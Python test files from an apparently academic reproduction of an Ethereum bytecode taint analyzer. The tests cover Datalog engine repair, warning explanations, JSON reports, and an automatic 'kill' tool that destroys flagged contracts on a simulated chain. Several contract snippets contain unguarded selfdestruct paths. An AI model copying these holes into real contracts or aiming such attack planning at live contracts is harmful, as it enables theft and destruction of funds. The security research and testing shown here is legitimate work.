            for relation, rows in facts.items()
        }
        database = _load(facts)
        engine = Engine(
            rules, track_provenance=track, use_plans=True, columnar=columnar
        )
        engine.evaluate(database)
        for additions, picks in batches:
            pool = sorted(
                (
                    (relation, fact)
                    for relation, rows in edb.items()
                    for fact in rows
                ),
                key=repr,
            )
            added = {
                relation: set(rows) for relation, rows in additions.items()
            }
            retracted = {}
            for pick in picks:
                if not pool:
                    break
                relation, fact = pool[pick % len(pool)]
                if fact in added.get(relation, ()):
                    continue  # keep batches unambiguous: no add+retract
                retracted.setdefault(relation, set()).add(fact)
            engine.apply_changes(additions=added, retractions=retracted)
            for relation, rows in added.items():
                edb[relation] |= rows
            for relation, rows in retracted.items():
                edb[relation] -= rows
        cold_db, cold = _semi_naive(
            rules,
            {relation: sorted(rows, key=repr) for relation, rows in edb.items()},
            use_plans=True,
            track=track,
        )
        return database, engine, cold_db, cold

    @given(_program_with_changes())
    @settings(max_examples=40, deadline=None)
    def test_compiled_repair_matches_cold_fixpoint(self, program):
        database, _, cold_db, _ = self._run(program, columnar=False)
        assert _snapshot(database) == _snapshot(cold_db)

    @given(_program_with_changes())
    @settings(max_examples=40, deadline=None)
    def test_columnar_repair_matches_cold_fixpoint(self, program):
        database, _, cold_db, _ = self._run(program, columnar=True)
        assert _snapshot(database) == _snapshot(cold_db)

    @given(_program_with_changes())
    @settings(max_examples=25, deadline=None)
    def test_repair_preserves_provenance_coverage(self, program):
        """After repair the warm engine explains exactly the facts a cold
        tracking engine derives — nothing stale, nothing missing."""
        database, engine, cold_db, cold = self._run(
            program, columnar=False, track=True
        )
        assert set(engine.provenance) == set(cold.provenance)
        derived = {
            (relation, fact)
            for relation in IDB_ARITY
            for fact in cold_db.facts(relation)
        }
        assert set(engine.provenance) == derived
