"""Warning explanations: Datalog derivation trees for findings."""

import pytest

from repro.core import analyze_bytecode
from repro.core.bytecode_datalog import analyze_with_datalog, explain_warning
from repro.core.taint import TaintOptions
from repro.minisol import compile_source


@pytest.fixture(scope="module")
def explained(tainted_owner_module):
    result = analyze_bytecode(tainted_owner_module.runtime)
    taint = analyze_with_datalog(
        facts=result.facts,
        storage=result.storage,
        guards=result.guards,
        options=TaintOptions(),
        track_provenance=True,
    )
    return result, taint


@pytest.fixture(scope="module")
def tainted_owner_module():
    from tests.conftest import TAINTED_OWNER_SOURCE

    return compile_source(TAINTED_OWNER_SOURCE)


class TestExplainWarning:
    def test_accessible_selfdestruct_explained_via_compromised_guard(self, explained):
        result, taint = explained
        warning = next(
            w for w in result.warnings if w.kind == "accessible-selfdestruct"
        )
        text = explain_warning(taint.engine, warning, taint)
        assert "ReachableByAttacker" in text
        assert "CompromisedGuard" in text
        assert "CALLDATALOAD" in text  # bottoms out at the taint source

    def test_tainted_owner_explained_via_storage_write(self, explained):
        result, taint = explained
        warning = next(
            w for w in result.warnings if w.kind == "tainted-owner-variable"
        )
        text = explain_warning(taint.engine, warning, taint)
        assert "TaintedStorage" in text
        assert "SStoreConst" in text

    def test_tainted_selfdestruct_explains_beneficiary_taint(self, explained):
        result, taint = explained
        warning = next(w for w in result.warnings if w.kind == "tainted-selfdestruct")
        text = explain_warning(taint.engine, warning, taint)
        assert "StorageTaint" in text or "InputTaint" in text

    def test_composite_chain_explanation_crosses_guards(self, victim_contract):
        result = analyze_bytecode(victim_contract.runtime)
        taint = analyze_with_datalog(
            facts=result.facts,
            storage=result.storage,
            guards=result.guards,
            options=TaintOptions(),
            track_provenance=True,
        )
        warning = next(
            w for w in result.warnings if w.kind == "accessible-selfdestruct"
        )
        text = explain_warning(taint.engine, warning, taint)
        # The proof goes through the writable-mapping escalation.
        assert "WritableMapping" in text
        assert "MappingStore" in text


class TestCliExplain:
    def test_explain_flag(self, tmp_path, capsys):
        from repro.cli import main
        from tests.conftest import TAINTED_OWNER_SOURCE

        path = tmp_path / "c.msol"
        path.write_text(TAINTED_OWNER_SOURCE)
        assert main(["analyze", "--source", str(path), "--explain"]) == 1
        output = capsys.readouterr().out
        assert "why [accessible-selfdestruct]" in output
        assert "via" in output
