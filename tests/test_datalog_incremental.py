"""DRed incremental maintenance: ``Engine.apply_changes`` unit behavior
(additions, retractions, rederivation, negation fallback, provenance,
stats) and the warm-engine path through the analysis stack."""

import pytest

from repro.datalog import Database, Engine, parse_program, parse_rule


def _closure_engine(track=False, columnar=None):
    rules = [
        parse_rule("Path(x, y) :- Edge(x, y)."),
        parse_rule("Path(x, z) :- Path(x, y), Edge(y, z)."),
    ]
    db = Database()
    db.add_all("Edge", [("a", "b"), ("b", "c")])
    engine = Engine(rules, track_provenance=track, columnar=columnar)
    engine.evaluate(db)
    return engine, db


class TestAdditions:
    def test_appended_edge_extends_closure(self):
        engine, db = _closure_engine()
        engine.apply_changes(additions={"Edge": [("c", "d")]})
        assert db.facts("Path") == {
            ("a", "b"), ("b", "c"), ("a", "c"),
            ("c", "d"), ("b", "d"), ("a", "d"),
        }

    def test_incremental_matches_cold_fixpoint(self):
        engine, db = _closure_engine()
        engine.apply_changes(additions={"Edge": [("c", "a"), ("d", "e")]})
        cold_db = Database()
        cold_db.add_all("Edge", [("a", "b"), ("b", "c"), ("c", "a"), ("d", "e")])
        Engine(engine.rules).evaluate(cold_db)
        assert db.facts("Path") == cold_db.facts("Path")
        assert db.facts("Edge") == cold_db.facts("Edge")

    def test_duplicate_addition_is_a_no_op(self):
        engine, db = _closure_engine()
        before = db.facts("Path")
        engine.apply_changes(additions={"Edge": [("a", "b")]})
        assert db.facts("Path") == before

    def test_stats_count_incremental_applies(self):
        engine, _ = _closure_engine()
        engine.apply_changes(additions={"Edge": [("c", "d")]})
        assert engine.stats.incremental_applies == 1
        assert engine.stats.delta_derived_facts > 0


class TestRetractions:
    def test_retracted_edge_deletes_consequences(self):
        engine, db = _closure_engine()
        engine.apply_changes(retractions={"Edge": [("b", "c")]})
        assert db.facts("Path") == {("a", "b")}
        assert engine.stats.overdeleted_facts > 0

    def test_rederivation_keeps_alternately_supported_facts(self):
        """The diamond: removing one of two proofs must not delete the
        fact (the classic DRed overdelete/rederive case)."""
        rules = [parse_rule("Path(x, y) :- Edge(x, y).")]
        db = Database()
        db.add_all("Edge", [("a", "b")])
        engine = Engine(
            rules + [parse_rule("Path(x, z) :- Path(x, y), Edge(y, z).")]
        )
        db.add_all("Edge", [("b", "c"), ("a", "c")])  # two proofs of (a, c)
        engine.evaluate(db)
        engine.apply_changes(retractions={"Edge": [("a", "c")]})
        assert ("a", "c") in db.facts("Path")  # still via a->b->c
        assert engine.stats.rederived_facts >= 1

    def test_retracting_derived_fact_is_an_error(self):
        engine, _ = _closure_engine()
        with pytest.raises(ValueError, match="not an explicitly added"):
            engine.apply_changes(retractions={"Path": [("a", "b")]})

    def test_retracting_unknown_fact_is_an_error(self):
        engine, _ = _closure_engine()
        with pytest.raises(ValueError):
            engine.apply_changes(retractions={"Edge": [("z", "z")]})

    def test_add_then_retract_round_trips(self):
        engine, db = _closure_engine()
        before = db.facts("Path")
        engine.apply_changes(additions={"Edge": [("c", "d")]})
        engine.apply_changes(retractions={"Edge": [("c", "d")]})
        assert db.facts("Path") == before


class TestNegationFallback:
    def test_negated_dependency_change_recomputes_stratum(self):
        program = parse_program(
            "Guarded(s) :- Guard(s, g).\n"
            "Open(s) :- Stmt(s), !Guarded(s).\n"
        )
        db = Database()
        db.add_all("Stmt", [("s1",), ("s2",)])
        db.add("Guard", ("s1", "g1"))
        engine = Engine(program.rules)
        engine.evaluate(db)
        assert db.facts("Open") == {("s2",)}
        engine.apply_changes(retractions={"Guard": [("s1", "g1")]})
        assert db.facts("Open") == {("s1",), ("s2",)}
        assert engine.stats.strata_recomputed >= 1
        engine.apply_changes(additions={"Guard": [("s2", "g2")]})
        assert db.facts("Open") == {("s1",)}


class TestProvenance:
    def test_repair_keeps_explanations_renderable(self):
        engine, db = _closure_engine(track=True)
        engine.apply_changes(additions={"Edge": [("c", "d")]})
        text = engine.format_explanation("Path", ("a", "d"))
        assert "Path" in text
        engine.apply_changes(retractions={"Edge": [("a", "b")]})
        assert ("Path", ("a", "b")) not in engine.provenance

    def test_coverage_matches_cold_tracking_engine(self):
        engine, db = _closure_engine(track=True)
        engine.apply_changes(
            additions={"Edge": [("c", "d")]},
            retractions={"Edge": [("b", "c")]},
        )
        cold_db = Database()
        cold_db.add_all("Edge", [("a", "b"), ("c", "d")])
        cold = Engine(engine.rules, track_provenance=True)
        cold.evaluate(cold_db)
        assert set(engine.provenance) == set(cold.provenance)


class TestGuardrails:
    def test_apply_changes_needs_prior_evaluate(self):
        engine = Engine([parse_rule("P(x) :- E(x).")])
        with pytest.raises(RuntimeError, match="prior evaluate"):
            engine.apply_changes(additions={"E": [("a",)]})

    def test_legacy_interpreter_cannot_apply_changes(self):
        engine = Engine([parse_rule("P(x) :- E(x).")], use_plans=False)
        db = Database()
        db.add("E", ("a",))
        engine.evaluate(db)
        with pytest.raises(RuntimeError):
            engine.apply_changes(additions={"E": [("b",)]})

    def test_columnar_engine_repairs_too(self):
        engine, db = _closure_engine(columnar=True)
        engine.apply_changes(
            additions={"Edge": [("c", "d")]},
            retractions={"Edge": [("a", "b")]},
        )
        cold_db = Database()
        cold_db.add_all("Edge", [("b", "c"), ("c", "d")])
        Engine(engine.rules).evaluate(cold_db)
        assert db.facts("Path") == cold_db.facts("Path")


class TestWarmEngineCache:
    def _corpus(self):
        from repro.corpus import generate_corpus

        return generate_corpus(2, seed=13)

    def test_identical_rerun_is_a_hit(self):
        from repro.core.bytecode_datalog import WarmEngineCache, analyze_with_datalog

        contract = self._corpus()[0]
        warm = WarmEngineCache()
        first = analyze_with_datalog(runtime_bytecode=contract.runtime, warm=warm)
        second = analyze_with_datalog(runtime_bytecode=contract.runtime, warm=warm)
        assert warm.stats()["misses"] == 1
        assert warm.stats()["hits"] == 1
        assert first.tainted_slots == second.tainted_slots
        assert first.reachable == second.reachable

    def test_flag_flip_repairs_and_matches_cold(self):
        from repro.core.bytecode_datalog import WarmEngineCache, analyze_with_datalog
        from repro.core.taint import TaintOptions

        warm = WarmEngineCache()
        for contract in self._corpus():
            analyze_with_datalog(runtime_bytecode=contract.runtime, warm=warm)
            repaired = analyze_with_datalog(
                runtime_bytecode=contract.runtime,
                options=TaintOptions(model_guards=False),
                warm=warm,
            )
            cold = analyze_with_datalog(
                runtime_bytecode=contract.runtime,
                options=TaintOptions(model_guards=False),
            )
            assert repaired.tainted_slots == cold.tainted_slots
            assert repaired.reachable == cold.reachable
            assert repaired.storage_tainted == cold.storage_tainted
        assert warm.stats()["repairs"] >= 1

    def test_eviction_bounds_live_engines(self):
        from repro.core.bytecode_datalog import WarmEngineCache, analyze_with_datalog

        warm = WarmEngineCache(maxsize=1)
        for contract in self._corpus():
            analyze_with_datalog(runtime_bytecode=contract.runtime, warm=warm)
        assert warm.stats()["entries"] == 1

    def test_api_analyze_threads_warm_cache(self):
        from repro import api

        contract = self._corpus()[0]
        warm = api.WarmEngineCache()
        config = api.AnalysisConfig(engine="datalog-columnar")
        first = api.analyze(contract.runtime, config, warm=warm)
        second = api.analyze(contract.runtime, config, warm=warm)
        assert warm.stats()["misses"] == 1
        assert warm.stats()["hits"] == 1
        rows = lambda result: [
            (w.kind, w.pc, w.statement, w.slot, w.detail)
            for w in result.warnings
        ]
        assert rows(first) == rows(second)
