"""Report objects and the report-emitting CLI paths."""

import json

import pytest

from repro.core import analyze_bytecode
from repro.core.report import ContractReport, SweepReport
from repro.core.vulnerabilities import VULNERABILITY_KINDS


class TestContractReport:
    def test_from_result_fields(self, victim_contract):
        result = analyze_bytecode(victim_contract.runtime)
        report = ContractReport.from_result(
            result, name="Victim", bytecode_size=len(victim_contract.runtime)
        )
        assert report.name == "Victim"
        assert report.bytecode_size == len(victim_contract.runtime)
        assert report.block_count == result.block_count
        assert len(report.warnings) == len(result.warnings)

    def test_json_roundtrip(self, victim_contract):
        result = analyze_bytecode(victim_contract.runtime)
        report = ContractReport.from_result(result, name="Victim")
        data = json.loads(report.to_json())
        assert data["name"] == "Victim"
        kinds = {w["kind"] for w in data["warnings"]}
        assert "accessible-selfdestruct" in kinds

    def test_error_report(self):
        from repro.core import AnalysisConfig

        result = analyze_bytecode(b"\x60\x01" * 3, AnalysisConfig(max_lift_states=0))
        report = ContractReport.from_result(result)
        assert report.error is not None


class TestSweepReport:
    def _reports(self, contracts):
        sweep = SweepReport()
        for contract in contracts:
            result = analyze_bytecode(contract.runtime)
            sweep.add(ContractReport.from_result(result, name=contract.name))
        return sweep

    def test_counts(self, victim_contract, safe_contract):
        sweep = self._reports([victim_contract, safe_contract])
        assert sweep.total_contracts == 2
        assert sweep.analyzed == 2
        assert sweep.flagged == 1
        assert 0 < sweep.flag_rate < 1

    def test_kind_counts_keys(self, safe_contract):
        sweep = self._reports([safe_contract])
        assert set(sweep.kind_counts) == set(VULNERABILITY_KINDS)

    def test_summary_json(self, victim_contract):
        sweep = self._reports([victim_contract])
        payload = json.loads(sweep.to_json())
        assert payload["flagged"] == 1
        assert len(payload["contracts"]) == 1
        compact = json.loads(sweep.to_json(include_contracts=False))
        assert "contracts" not in compact


class TestCliJsonPaths:
    def test_analyze_json(self, tmp_path, capsys):
        from repro.cli import main
        from tests.conftest import OPEN_KILL_SOURCE

        path = tmp_path / "c.msol"
        path.write_text(OPEN_KILL_SOURCE)
        code = main(["analyze", "--source", str(path), "--json"])
        assert code == 1
        data = json.loads(capsys.readouterr().out)
        assert data["warnings"]

    def test_sweep_command(self, tmp_path, capsys):
        from repro.cli import main

        json_path = tmp_path / "sweep.json"
        assert main(["sweep", "--size", "10", "--seed", "4", "--json", str(json_path)]) == 0
        output = capsys.readouterr().out
        assert "flag rate" in output
        payload = json.loads(json_path.read_text())
        assert payload["total_contracts"] == 10
