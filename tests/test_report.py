"""Report objects and the report-emitting CLI paths."""

import json

import pytest

from repro.core import analyze_bytecode
from repro.core.report import ContractReport, SweepReport
from repro.core.vulnerabilities import VULNERABILITY_KINDS


class TestContractReport:
    def test_from_result_fields(self, victim_contract):
        result = analyze_bytecode(victim_contract.runtime)
        report = ContractReport.from_result(
            result, name="Victim", bytecode_size=len(victim_contract.runtime)
        )
        assert report.name == "Victim"
        assert report.bytecode_size == len(victim_contract.runtime)
        assert report.block_count == result.block_count
        assert len(report.warnings) == len(result.warnings)

    def test_json_roundtrip(self, victim_contract):
        result = analyze_bytecode(victim_contract.runtime)
        report = ContractReport.from_result(result, name="Victim")
        data = json.loads(report.to_json())
        assert data["name"] == "Victim"
        kinds = {w["kind"] for w in data["warnings"]}
        assert "accessible-selfdestruct" in kinds

    def test_error_report(self):
        from repro.core import AnalysisConfig

        result = analyze_bytecode(b"\x60\x01" * 3, AnalysisConfig(max_lift_states=0))
        report = ContractReport.from_result(result)
        assert report.error is not None


class TestSweepReport:
    def _reports(self, contracts):
        sweep = SweepReport()
        for contract in contracts:
            result = analyze_bytecode(contract.runtime)
            sweep.add(ContractReport.from_result(result, name=contract.name))
        return sweep

    def test_counts(self, victim_contract, safe_contract):
        sweep = self._reports([victim_contract, safe_contract])
        assert sweep.total_contracts == 2
        assert sweep.analyzed == 2
        assert sweep.flagged == 1
        assert 0 < sweep.flag_rate < 1

    def test_kind_counts_keys(self, safe_contract):
        sweep = self._reports([safe_contract])
        assert set(sweep.kind_counts) == set(VULNERABILITY_KINDS)

    def test_late_finish_counted_once(self):
        """A completed-but-late run (error=None, deadline_exceeded=True)
        counts as analyzed+flagged, never as an error — the old behaviour
        double-counted it in both flag and error totals."""
        late = ContractReport(
            name="late",
            bytecode_size=10,
            block_count=1,
            statement_count=2,
            elapsed_seconds=130.0,
            error=None,
            deadline_exceeded=True,
            warnings=[
                {
                    "kind": "accessible-selfdestruct",
                    "pc": 1,
                    "statement": "s",
                    "slot": None,
                    "detail": "d",
                }
            ],
        )
        sweep = SweepReport()
        sweep.add(late)
        assert sweep.analyzed == 1
        assert sweep.flagged == 1
        assert sweep.errors == 0
        assert sweep.deadline_exceeded == 1
        assert sweep.kind_counts["accessible-selfdestruct"] == 1

    def test_aborted_timeout_not_flagged(self):
        aborted = ContractReport(
            name="aborted",
            bytecode_size=10,
            block_count=0,
            statement_count=0,
            elapsed_seconds=120.0,
            error="timeout",
            deadline_exceeded=True,
        )
        sweep = SweepReport()
        sweep.add(aborted)
        assert sweep.errors == 1
        assert sweep.analyzed == 0
        assert sweep.flagged == 0
        assert sweep.deadline_exceeded == 1

    def test_stage_seconds_aggregated(self, victim_contract):
        result = analyze_bytecode(victim_contract.runtime)
        sweep = SweepReport()
        sweep.add(ContractReport.from_result(result))
        sweep.add(ContractReport.from_result(result))
        summary = sweep.summary()
        assert set(summary["stage_seconds"]) == {
            "lift", "facts", "values", "storage", "guards", "ordering", "taint", "detect",
        }
        assert summary["cache"] == {"hits": 0, "misses": 0}

    def test_summary_json(self, victim_contract):
        sweep = self._reports([victim_contract])
        payload = json.loads(sweep.to_json())
        assert payload["flagged"] == 1
        assert len(payload["contracts"]) == 1
        compact = json.loads(sweep.to_json(include_contracts=False))
        assert "contracts" not in compact


class TestSchemaV2:
    def test_contract_report_carries_schema_version(self, victim_contract):
        result = analyze_bytecode(victim_contract.runtime)
        report = ContractReport.from_result(result, name="Victim")
        payload = json.loads(report.to_json())
        assert payload["schema_version"] == 2
        # schema_version leads the payload so readers can dispatch early.
        assert next(iter(payload)) == "schema_version"

    def test_sweep_report_carries_schema_version(self, victim_contract):
        sweep = SweepReport()
        sweep.add(
            ContractReport.from_result(analyze_bytecode(victim_contract.runtime))
        )
        payload = json.loads(sweep.to_json())
        assert payload["schema_version"] == 2
        assert "error_kind_counts" in payload
        assert "orchestrator" in payload

    def test_contract_report_from_json_roundtrip(self, victim_contract):
        result = analyze_bytecode(victim_contract.runtime)
        report = ContractReport.from_result(result, name="Victim", bytecode_size=7)
        text = report.to_json()
        assert ContractReport.from_json(text).to_json() == text

    def test_sweep_report_from_json_roundtrip(self, victim_contract, safe_contract):
        sweep = SweepReport()
        for contract in (victim_contract, safe_contract):
            sweep.add(
                ContractReport.from_result(
                    analyze_bytecode(contract.runtime), name=contract.name
                )
            )
        sweep.orchestrator = {"mode": "serial", "crashes": 0}
        text = sweep.to_json()
        restored = SweepReport.from_json(text)
        assert restored.to_json() == text
        assert restored.orchestrator == {"mode": "serial", "crashes": 0}

    def test_schema_version_1_accepted_unknown_rejected(self):
        assert ContractReport.from_json({"schema_version": 1, "name": "x"}).name == "x"
        with pytest.raises(ValueError):
            ContractReport.from_json({"schema_version": 99})
        with pytest.raises(ValueError):
            SweepReport.from_json({"schema_version": 3})
        with pytest.raises(ValueError):
            ContractReport.from_json(json.dumps([1, 2]))

    def test_from_entry_matches_from_result(self, victim_contract):
        from repro.core.batch import _entry_from_result

        result = analyze_bytecode(victim_contract.runtime)
        from_result = ContractReport.from_result(
            result, name="Victim", bytecode_size=9
        )
        from_entry = ContractReport.from_entry(
            _entry_from_result(0, result), name="Victim", bytecode_size=9
        )
        assert from_entry.to_json() == from_result.to_json()

    def test_error_kind_counts(self):
        sweep = SweepReport()
        sweep.add(ContractReport(name="a", error="timeout"))
        sweep.add(ContractReport(name="b", error="worker_crashed: exit 9"))
        sweep.add(ContractReport(name="c", error="worker_crashed: exit 11"))
        assert sweep.error_kind_counts() == {
            "timeout": 1,
            "worker_crashed": 2,
        }


class TestCliJsonPaths:
    def test_analyze_json(self, tmp_path, capsys):
        from repro.cli import main
        from tests.conftest import OPEN_KILL_SOURCE

        path = tmp_path / "c.msol"
        path.write_text(OPEN_KILL_SOURCE)
        code = main(["analyze", "--source", str(path), "--json"])
        assert code == 1
        data = json.loads(capsys.readouterr().out)
        assert data["warnings"]

    def test_sweep_command(self, tmp_path, capsys):
        from repro.cli import main

        json_path = tmp_path / "sweep.json"
        assert main(["sweep", "--size", "10", "--seed", "4", "--json", str(json_path)]) == 0
        output = capsys.readouterr().out
        assert "flag rate" in output
        payload = json.loads(json_path.read_text())
        assert payload["total_contracts"] == 10


class TestSchemaVersionErrors:
    """Regression: the unsupported-version message interpolates the
    supported range from SUPPORTED_SCHEMA_VERSIONS, not a stale literal."""

    def test_message_names_every_supported_version(self):
        from repro.core.report import SUPPORTED_SCHEMA_VERSIONS

        with pytest.raises(ValueError) as excinfo:
            ContractReport.from_json({"schema_version": 99})
        message = str(excinfo.value)
        assert "schema_version 99" in message
        expected = ", ".join(str(v) for v in SUPPORTED_SCHEMA_VERSIONS)
        assert "(supported: %s)" % expected in message

    def test_sweep_report_same_message(self):
        with pytest.raises(ValueError, match="unsupported SweepReport"):
            SweepReport.from_json({"schema_version": 99})

    def test_current_and_v1_still_parse(self):
        from repro.core.report import SUPPORTED_SCHEMA_VERSIONS

        for version in SUPPORTED_SCHEMA_VERSIONS:
            assert ContractReport.from_json({"schema_version": version})


class TestPr8CounterRoundTrips:
    """Regression: error_kind_counts and the PR 8 dedup counters survive
    a from_json round-trip, contracts included or not."""

    def _errored_sweep(self):
        report = SweepReport()
        report.add(ContractReport(name="t", error="timeout: budget exhausted"))
        report.add(ContractReport(name="l", error="lift-error: bad jump"))
        report.add(ContractReport(name="ok"))
        report.orchestrator = {
            "tasks_total": 30,
            "tasks_unique": 3,
            "dedup_hits": 27,
            "result_cache_hits": 5,
        }
        return report

    def test_round_trip_with_contracts_is_byte_identical(self):
        report = self._errored_sweep()
        text = report.to_json()
        assert SweepReport.from_json(text).to_json() == text

    def test_summary_only_round_trip_keeps_error_kinds_and_dedup(self):
        report = self._errored_sweep()
        text = report.to_json(include_contracts=False)
        parsed = SweepReport.from_json(text)
        assert parsed.error_kind_counts() == {"timeout": 1, "lift-error": 1}
        assert parsed.orchestrator["dedup_hits"] == 27
        assert parsed.orchestrator["result_cache_hits"] == 5
        # And the round-trip is still byte-identical without contracts.
        assert parsed.to_json(include_contracts=False) == text

    def test_contracts_recompute_wins_over_fallback(self):
        report = self._errored_sweep()
        parsed = SweepReport.from_json(report.to_json())
        # With contracts present the counts come from them, not the cache.
        parsed.error_kind_fallback = {"bogus": 99}
        assert parsed.error_kind_counts() == {"timeout": 1, "lift-error": 1}


class TestDatalogPayloadParity:
    """Regression: batch entries carry the full EngineStats payload, so a
    report built from an entry equals one built from the result."""

    def test_from_entry_matches_from_result_for_datalog_engine(self):
        from repro import api
        from repro.core.batch import _entry_from_result
        from repro.corpus import generate_corpus

        contract = generate_corpus(3, seed=11)[2]
        result = api.analyze(
            contract.runtime, api.AnalysisConfig(engine="datalog")
        )
        assert result.datalog_stats, "datalog engine must report stats"
        entry = _entry_from_result(0, result)
        via_entry = ContractReport.from_entry(
            entry, name="c", bytecode_size=len(contract.runtime)
        )
        via_result = ContractReport.from_result(
            result, name="c", bytecode_size=len(contract.runtime)
        )
        assert via_entry.to_json() == via_result.to_json()
        # The non-scalar members made the trip.
        assert "rule_derivations" in via_entry.datalog
        assert isinstance(via_entry.datalog.get("stratum_iterations"), list)

    def test_datalog_totals_skips_non_scalar_members(self):
        from repro.core.batch import BatchEntry, BatchSummary

        summary = BatchSummary()
        summary.entries.append(
            BatchEntry(
                index=0,
                kinds=(),
                error=None,
                elapsed_seconds=0.0,
                statement_count=1,
                datalog={
                    "derived_facts": 5,
                    "rule_derivations": {"r1": 5},
                    "stratum_iterations": [1, 2],
                },
            )
        )
        summary.entries.append(
            BatchEntry(
                index=1,
                kinds=(),
                error=None,
                elapsed_seconds=0.0,
                statement_count=1,
                datalog={"derived_facts": 7, "rule_derivations": {"r1": 7}},
            )
        )
        assert summary.datalog_totals() == {"derived_facts": 12}
