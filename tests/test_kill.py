"""Ethainter-Kill: planning, execution, trace verification, failure modes."""

import pytest

from repro.chain import Blockchain
from repro.core import analyze_bytecode
from repro.kill import EthainterKill
from repro.minisol import compile_source

DEPLOYER = 0xD0_0D


@pytest.fixture
def chain():
    chain = Blockchain()
    chain.fund(DEPLOYER, 10**20)
    return chain


def deploy_and_attack(chain, contract, value=1000, ctor_args=()):
    receipt = chain.deploy(DEPLOYER, contract.init_with_args(*ctor_args), value=value)
    assert receipt.success
    result = analyze_bytecode(contract.runtime)
    killer = EthainterKill(chain)
    return killer, receipt.contract_address, killer.attack(receipt.contract_address, result)


class TestSuccessfulKills:
    def test_open_selfdestruct_destroyed(self, chain, open_kill_contract):
        _, address, outcome = deploy_and_attack(chain, open_kill_contract)
        assert outcome.destroyed
        assert chain.state.is_destroyed(address)
        assert len(outcome.plan) == 1

    def test_tainted_owner_two_step(self, chain, tainted_owner_contract):
        _, address, outcome = deploy_and_attack(chain, tainted_owner_contract)
        assert outcome.destroyed
        assert len(outcome.plan) == 2  # init(attacker) then kill()

    def test_victim_composite_four_step(self, chain, victim_contract):
        killer, address, outcome = deploy_and_attack(chain, victim_contract)
        assert outcome.destroyed
        assert len(outcome.plan) == 4
        assert chain.state.is_destroyed(address)

    def test_attacker_receives_funds_when_beneficiary_tainted(self, chain):
        source = """
contract C {
    function die(address to) public { selfdestruct(to); }
}
"""
        contract = compile_source(source)
        receipt = chain.deploy(DEPLOYER, contract.init_with_args(), value=777)
        result = analyze_bytecode(contract.runtime)
        killer = EthainterKill(chain)
        before = chain.state.get_balance(killer.attacker)
        outcome = killer.attack(receipt.contract_address, result)
        assert outcome.destroyed
        assert chain.state.get_balance(killer.attacker) == before + 777

    def test_self_registration_chain(self, chain):
        source = """
contract C {
    mapping(address => bool) members;
    address t;
    constructor() { t = msg.sender; }
    function join() public { members[msg.sender] = true; }
    function retire() public { require(members[msg.sender]); selfdestruct(t); }
}
"""
        contract = compile_source(source)
        _, address, outcome = deploy_and_attack(chain, contract)
        assert outcome.destroyed
        assert len(outcome.plan) == 2


class TestFailureModes:
    def test_safe_contract_not_attempted(self, chain, safe_contract):
        _, address, outcome = deploy_and_attack(chain, safe_contract)
        assert not outcome.attempted
        assert not outcome.destroyed
        assert not chain.state.is_destroyed(address)

    def test_magic_value_guard_survives(self, chain):
        source = """
contract C {
    address payout;
    constructor() { payout = msg.sender; }
    function emergency(uint256 code) public {
        require(code == 123456789123);
        selfdestruct(payout);
    }
}
"""
        contract = compile_source(source)
        _, address, outcome = deploy_and_attack(chain, contract)
        assert outcome.attempted
        assert not outcome.destroyed
        assert not chain.state.is_destroyed(address)
        assert "survived" in outcome.reason

    def test_dead_state_guard_survives(self, chain):
        source = """
contract C {
    address sink;
    uint256 active;
    constructor() { sink = msg.sender; active = 1; }
    function go() public { require(active == 2); selfdestruct(sink); }
}
"""
        contract = compile_source(source)
        _, address, outcome = deploy_and_attack(chain, contract)
        assert outcome.attempted and not outcome.destroyed

    def test_unflagged_contract_reports_reason(self, chain, token_contract):
        _, address, outcome = deploy_and_attack(chain, token_contract)
        assert outcome.reason == "not flagged for selfdestruct"


class TestPlanDetails:
    def test_plan_pins_tainted_args_to_attacker(self, chain, tainted_owner_contract):
        killer, address, outcome = deploy_and_attack(chain, tainted_owner_contract)
        init_call = outcome.plan[0]
        assert init_call.arg_count == 1
        assert init_call.address_args == {0}

    def test_plan_orders_enablers_before_target(self, chain, victim_contract):
        from repro.evm.hashing import function_selector

        _, _, outcome = deploy_and_attack(chain, victim_contract)
        selectors = [call.selector for call in outcome.plan]
        assert selectors[0] == function_selector("registerSelf()")
        assert selectors[-1] == function_selector("kill()")

    def test_transactions_counted(self, chain, victim_contract):
        _, _, outcome = deploy_and_attack(chain, victim_contract)
        assert outcome.transactions_sent >= len(outcome.plan)


class TestBatchReport:
    def test_attack_many_aggregates(self, chain, open_kill_contract, safe_contract):
        targets = []
        for contract in (open_kill_contract, safe_contract):
            receipt = chain.deploy(DEPLOYER, contract.init_with_args())
            targets.append(
                (receipt.contract_address, analyze_bytecode(contract.runtime))
            )
        killer = EthainterKill(chain)
        report = killer.attack_many(targets)
        assert report.flagged == 2
        assert report.destroyed == 1
        assert report.attempted == 1
        assert 0 < report.kill_rate < 1

    def test_attack_bytecodes_analyzes_with_shared_cache(
        self, chain, open_kill_contract, safe_contract
    ):
        from repro.core import ArtifactCache

        targets = []
        # Deploy the open-kill contract twice: identical bytecode, so the
        # shared cache analyzes it once.
        for contract in (open_kill_contract, open_kill_contract, safe_contract):
            receipt = chain.deploy(DEPLOYER, contract.init_with_args())
            targets.append((receipt.contract_address, contract.runtime))
        killer = EthainterKill(chain)
        cache = ArtifactCache()
        report = killer.attack_bytecodes(targets, cache=cache)
        assert report.flagged == 3
        assert report.destroyed == 2
        assert cache.hits >= 6  # the duplicate deployment hit every stage
