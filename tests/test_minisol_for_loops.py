"""``for`` loop sugar: parsing, desugaring, execution."""

import pytest

from repro.chain import Blockchain
from repro.minisol import ast_nodes as ast
from repro.minisol import compile_source
from repro.minisol.abi import decode_word
from repro.minisol.parser import ParseError, parse


def run(source, fn, *args):
    contract = compile_source(source)
    chain = Blockchain()
    chain.fund(1, 10**18)
    address = chain.deploy(1, contract.init_with_args()).contract_address
    result = chain.call(1, address, contract.calldata(fn, *args))
    assert result.success, result.error
    return decode_word(result.return_data)


class TestDesugaring:
    def test_for_becomes_while(self):
        program = parse(
            "contract C { function f() public {"
            " for (uint256 i = 0; i < 3; i += 1) { } } }"
        )
        outer = program.contracts[0].function("f").body.statements[0]
        assert isinstance(outer, ast.Block)
        assert isinstance(outer.statements[0], ast.VarDecl)
        assert isinstance(outer.statements[1], ast.While)

    def test_empty_init_and_cond(self):
        program = parse(
            "contract C { function f(uint256 i) public {"
            " for (; ; i += 1) { return; } } }"
        )
        outer = program.contracts[0].function("f").body.statements[0]
        loop = outer.statements[0]
        assert isinstance(loop, ast.While)
        assert isinstance(loop.condition, ast.BoolLiteral)

    def test_assignment_initializer(self):
        program = parse(
            "contract C { function f(uint256 i) public {"
            " for (i = 0; i < 2; i += 1) { } } }"
        )
        outer = program.contracts[0].function("f").body.statements[0]
